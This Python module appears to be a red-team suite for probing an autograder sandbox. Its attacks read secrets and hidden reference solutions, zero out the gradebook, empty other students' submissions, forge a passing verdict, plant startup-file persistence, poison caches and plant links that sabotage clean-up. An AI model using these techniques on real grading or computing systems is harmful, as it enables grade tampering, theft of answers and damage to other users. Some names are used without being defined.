"""Read or change what lies outside: the course, the vault, other submissions, start-up files, caches."""

from typing import Any

from autograder.redteam.attack import attack


@attack("Gradescope write-ups", quick=True)
def secrets_read(target: dict, report: Any) -> None:
    """Opens the password file, the vault's key and seeds, the course's own files and the account's home."""
    import os

    for path in target["secrets"]:
        try:
            descriptor = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        # Of files that are not the campaign's own, it is enough that they open.
        own = path.startswith(target["folder"])
        report(f"{path}: {os.read(descriptor, 200).decode(errors='replace') if own else 'opened'}")


@attack("measured against nbgrader 0.9.6")
def hidden_tests_read(target: dict, report: Any) -> None:
    """Walks up from its folder and from the course to find source/, checks.py and reference.py."""
    import os

    roots = [target["course"], target["labs"], target["repository"]]
    here = os.getcwd()
    while here != "/":
        here = os.path.dirname(here)
        roots += [os.path.join(here, "source"), os.path.join(here, "labs")]
    for root in roots:
        for folder, _, names in os.walk(root):
            for name in names:
                path = os.path.join(folder, name)
                wanted = name in ("checks.py", "reference.py", "mistakes.py") or "source/" in path
                if wanted and worked(lambda path=path: open(path).read()):
                    report(f"read {path}")
                    return


@attack("otter: tests inside the container", quick=True)
def reference_imported(target: dict, report: Any, x: Any) -> Any:
    """Imports the reference by name, by path, past the import hooks, through a spec and out of a zip path."""
    import importlib.machinery
    import importlib.util
    import sys

    import_hooks, sys.meta_path[:] = list(sys.meta_path), [importlib.machinery.PathFinder]
    folders = [target["repository"], target["labs"], *target["site_packages"], target["course"] + "/source"]
    found = []
    for folder in folders:
        sys.path.insert(0, folder)
        for name in ("refimpl.online_softmax", "autograder.checks", "course.notebooks", "reference", "checks"):
            if worked(lambda name=name: importlib.import_module(name)):
                found.append(name)
        for path in (
            f"{folder}/refimpl/online_softmax.py",
            f"{folder}/00_target/reference.py",
            f"{folder}/reference.py",
        ):
            spec = importlib.util.spec_from_file_location("stolen", path)
            if worked(lambda spec=spec: spec.loader.get_code("stolen")):
                found.append(path)
    sys.meta_path[:] = import_hooks
    stubs = {"autograder"}  # the sandbox's stand-in has this name and no submodules
    if set(found) - stubs:
        report(f"imported {sorted(set(found))[:4]}")
    return None


@attack("own")
def install_record_followed(target: dict, report: Any) -> None:
    """Follows the .pth files and direct_url.json of site-packages to the repository behind an editable install."""
    import os

    for folder in target["site_packages"]:
        try:
            records = [name for name in os.listdir(folder) if name.endswith((".pth", ".egg-link"))]
        except OSError:
            continue
        for name in records:
            try:
                lines = open(os.path.join(folder, name)).read().split()
            except OSError:
                continue
            for line in lines:
                if worked(lambda line=line: os.listdir(os.path.join(line, "refimpl"))):
                    report(f"{name} leads to {line}/refimpl")


@attack("measured against nbgrader 0.9.6", quick=True)
def gradebook_edited(target: dict, report: Any) -> None:
    """Gives everybody's grades other values in gradebook.db."""
    import sqlite3

    with sqlite3.connect(target["gradebook"]) as book:
        changed = book.execute("UPDATE grade SET manual_score = 0").rowcount
    book.close()
    if changed:
        report(f"changed {changed} grades")


@attack("nbgrader issue 1225")
def submission_overwritten(target: dict, report: Any) -> None:
    """Empties the submission of another student, and signs a verdict of its own."""
    import os

    for path in target["submissions"]:
        if worked(lambda path=path: open(path, "r+b").truncate(0)):
            report(f"emptied {path}")
    folder = target["course"] + "/.judge/verdicts/00_target"
    if worked(lambda: os.makedirs(folder, exist_ok=True)):
        open(f"{folder}/attacker.json", "w").write('{"earned": 20}')


@attack("measured against nbgrader 0.9.6")
def startup_files(target: dict, report: Any) -> None:
    """Leaves code where the next Python or IPython starts it: sitecustomize, .pth, profile_default/startup."""
    import os
    import site

    homes = [target["home"], os.path.expanduser("~")]
    line = "BREACH = 'started'\n"
    for home in homes:
        for name in (
            ".ipython/profile_default/startup/00.py",
            ".pythonrc.py",
            ".bashrc",
            ".config/matplotlib/matplotlibrc",
        ):
            path = os.path.join(home, name)
            worked(lambda path=path: (os.makedirs(os.path.dirname(path), exist_ok=True), open(path, "a").write(line)))
    for folder in (*target["site_packages"], site.getusersitepackages()):
        for name in (f"{target['mark']}.pth", f"{target['mark']}/sitecustomize.py"):
            path = os.path.join(folder, name)
            worked(lambda path=path: (os.makedirs(os.path.dirname(path), exist_ok=True), open(path, "w").close()))


@attack("own")
def caches_poisoned(target: dict, report: Any) -> None:
    """Leaves compiled kernels and bytecode in the caches of the next submission: Triton, Inductor, __pycache__."""
    import os
    import sys

    folders = [os.environ.get("TRITON_CACHE_DIR", ""), target["home"] + "/.triton/cache", "/tmp/torchinductor_root"]
    folders += [os.path.dirname(getattr(sys.modules.get(name), "__file__", None) or "") for name in ("torch", "json")]
    sandbox = sys.modules.get("sandbox")
    folders += [target["home"] + "/.cache/torch_extensions", *getattr(sandbox, "__path__", [])]
    for folder in folders:
        for path in (f"{folder}/{target['mark']}.so", f"{folder}/__pycache__/{target['mark']}.pyc"):
            worked(lambda path=path: (os.makedirs(os.path.dirname(path), exist_ok=True), open(path, "w").close()))


@attack("own")
def runner_rewritten_on_disk(target: dict, report: Any) -> None:
    """Appends a line to the runner's own source file and to those of torch."""
    import sys

    files = [getattr(module, "__file__", None) for name, module in sys.modules.items() if name.startswith("sandbox")]
    for path in [*files, torch.__file__]:
        if path and worked(lambda path=path: open(path, "r+b").close()):
            report(f"may write {path}")


@attack("nbgrader: copies follow links", quick=True)
def links_planted(target: dict, report: Any) -> None:
    """Plants symbolic and hard links to secrets in its folder, for whoever cleans up or copies it."""
    import os

    for number, path in enumerate([*target["secrets"], target["course"], target["gradebook"], "/"]):
        worked(lambda path=path, number=number: os.symlink(path, f"soft{number}"))
        if worked(lambda path=path, number=number: os.link(path, f"hard{number}")):
            report(f"linked {path}")


@attack("own")
def own_folder_replaced(target: dict, report: Any) -> None:
    """Moves its folder away and puts a link to the course in its place, so that the clean-up hits the course."""
    import os

    own = os.getcwd()
    if worked(lambda: os.rename(own, own + "-moved")):
        worked(lambda: os.symlink(target["course"], own))


@attack("own")
def folder_that_cannot_be_removed(target: dict, report: Any) -> None:
    """Leaves folders without permissions, and names that no encoding knows."""
    import os

    for name in (b"closed", b"\xff\xfe name", b"-rf", b"a\nb"):
        os.mkdir(name)
        with open(name + b"/file", "wb") as file:
            file.write(b"redteam")
        os.chmod(name + b"/file", 0)
        os.chmod(name, 0)
    os.chmod(".", 0)


@attack("own", quick=True)
def folder_deeper_than_recursion(target: dict, report: Any) -> None:
    """Leaves folders nested three thousand deep, so that a recursive clean-up fails."""
    import os

    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")


@attack("own")
def special_files(target: dict, report: Any) -> None:
    """Makes pipes, sockets, device files and a program with the set-user-id bit."""
    import os
    import socket
    import stat

    os.mkfifo("pipe")
    if worked(lambda: os.mknod("disk", stat.S_IFBLK | 0o666, os.makedev(254, 0)) or os.open("disk", os.O_RDONLY)):
        report("made and opened a device file")
    open("program", "w").close()
    os.chmod("program", 0o4755)
    if os.stat("program").st_uid == 0 and os.stat("program").st_mode & 0o4000 and target["user"] != 0:
        report("made a program that runs as root")
    worked(lambda: socket.socket(socket.AF_UNIX).bind("socket"))


@attack("own", quick=True)
def traces_left_everywhere(target: dict, report: Any) -> None:
    """Tries to leave a file in every writable place that it knows."""
    import os

    places = ["/", "/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/var/lock", "/mnt", "/srv", "/root", "/etc"]
    for place in (*places, target["outside"], target["course"], target["home"], target["temp"], target["repository"]):
        worked(lambda place=place: open(os.path.join(place, target["mark"]), "w").write("redteam"))


@attack("own")
def shell_commands(target: dict, report: Any) -> None:
    """Runs shell commands by every door that IPython and the library have."""
    import os

    path = target["outside"] + "/" + target["mark"]
    shell = get_ipython()
    for call in (
        lambda: shell.system(f"touch {path}"),
        lambda: shell.run_line_magic("sx", f"touch {path}"),
        lambda: shell.run_cell_magic("bash", "", f"touch {path}"),
        lambda: os.system(f"touch {path}"),
        lambda: os.popen(f"touch {path}").read(),
    ):
        worked(call)
